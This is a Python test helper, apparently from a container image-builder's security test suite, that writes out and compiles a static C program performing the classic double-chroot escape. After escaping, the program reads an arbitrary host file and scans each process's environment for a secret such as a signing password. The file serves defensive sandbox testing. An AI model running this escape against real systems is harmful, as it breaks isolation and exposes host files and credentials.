"""A RUN step's way out of a chroot: a static C program (built here with gcc) that escapes its
root the classic way and prints what it can read, for the sandbox's attack tests."""

from __future__ import annotations

import subprocess
from pathlib import Path

# The classic double-chroot escape, then a scan of every process's environment for the name of
# the signing password. Under buildah's root chroot isolation it reads any host file and
# image-builder's own environment.
ESCAPE_C = r"""
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void dump(const char *label, const char *path, const char *marker) {
    static char buf[1 << 16];
    int fd = open(path, O_RDONLY);
    if (fd < 0) { if (!marker) printf("%s %s: %s\n", label, path, strerror(errno)); return; }
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0) n = 0;
    buf[n] = 0;
    for (ssize_t i = 0; i < n; i++) if (buf[i] == 0) buf[i] = ' ';
    if (!marker || strstr(buf, marker)) printf("%s %s: %s\n", label, path, buf);
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) printf("chroot: %s\n", strerror(errno));
    for (int i = 0; i < 64; i++) chdir("..");
    if (chroot(".") != 0) printf("chroot out: %s\n", strerror(errno));
    dump("FILE", argv[1], NULL);
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    int seen = 0;
    while (proc && (entry = readdir(proc))) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/environ", entry->d_name);
        seen++;
        dump("ENV", path, argv[2]);
    }
    printf("processes seen: %d\n", seen);
    return 0;
}
"""


def static_escape(folder: Path) -> None:
    """``folder/escape``, built from :data:`ESCAPE_C`."""
    source = folder / "escape.c"
    source.write_text(ESCAPE_C)
    done = subprocess.run(
        ["gcc", "-static", "-O1", "-o", str(folder / "escape"), str(source)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, (
        "gcc -static failed (scripts/setup installs gcc and libc6-dev):\n" + (done.stderr)
    )
    source.unlink()
